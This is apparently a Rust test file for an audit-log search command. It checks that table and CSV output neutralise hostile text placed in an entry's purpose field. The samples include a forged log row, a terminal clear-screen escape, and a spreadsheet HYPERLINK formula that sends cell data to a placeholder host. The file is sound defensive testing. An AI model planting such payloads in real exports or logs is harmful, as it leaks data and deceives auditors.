//! What a partner writes into a field of an audit entry (here a purpose)
//! cannot forge a row of `crossgate audit search`'s table, drive the
//! auditor's terminal, or run as a formula when the CSV is opened in a
//! spreadsheet.

use crossgate_audit::{Decision, Durability, Entry, Kind, SqliteStore, Writer};
use std::process::Command;

fn entry(purpose: &str) -> Entry {
    Entry {
        time: "2026-11-22T08:00:00.000000Z".into(),
        request_id: "r-1".into(),
        kind: Kind::Query,
        consumer: "education".into(),
        provider: "public-security".into(),
        record_type: "person.v1".into(),
        record_id: String::new(),
        purpose: purpose.into(),
        approval_reference: String::new(),
        decision: Decision::Denied,
        reason: "no grant".into(),
        released_fields: vec![],
        record_digest: String::new(),
        latency_micros: 1,
    }
}

#[test]
fn forged_rows_and_formulas_in_a_purpose_are_neutralised() {
    let dir = crossgate_testing::TempDir::new("audit-output");
    let db = dir.join("audit.db");
    let forged = "school-enrolment\n2026-11-22T09:00:00.000000Z query  tax  public-security  person.v1  audit  allowed  /name";
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")";
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    runtime.block_on(async {
        let writer = Writer::start(
            Box::new(SqliteStore::open(&db).unwrap()),
            "broker-1".into(),
            Durability::Durable,
            8,
        )
        .unwrap();
        writer.append(entry(forged)).await.unwrap();
        writer.append(entry(formula)).await.unwrap();
        writer.append(entry("\u{1b}[2J")).await.unwrap();
    });
    let store = format!("sqlite:{}", db.display());
    let search = |format: &str| {
        let out = Command::new(env!("CARGO_BIN_EXE_crossgate"))
            .args(["audit", "search", "--store", &store, "--format", format])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        String::from_utf8(out.stdout).unwrap()
    };
    let table = search("table");
    assert_eq!(
        table.lines().count(),
        4,
        "a header and three rows:\n{table}"
    );
    assert!(table.contains("school-enrolment\\n2026"), "{table}");
    assert!(
        !table.contains('\u{1b}'),
        "no terminal escape reaches the auditor"
    );
    let csv = search("csv");
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\""),
        "{csv}"
    );
    assert!(!csv.contains(",=") && !csv.contains(",\"="), "{csv}");
}
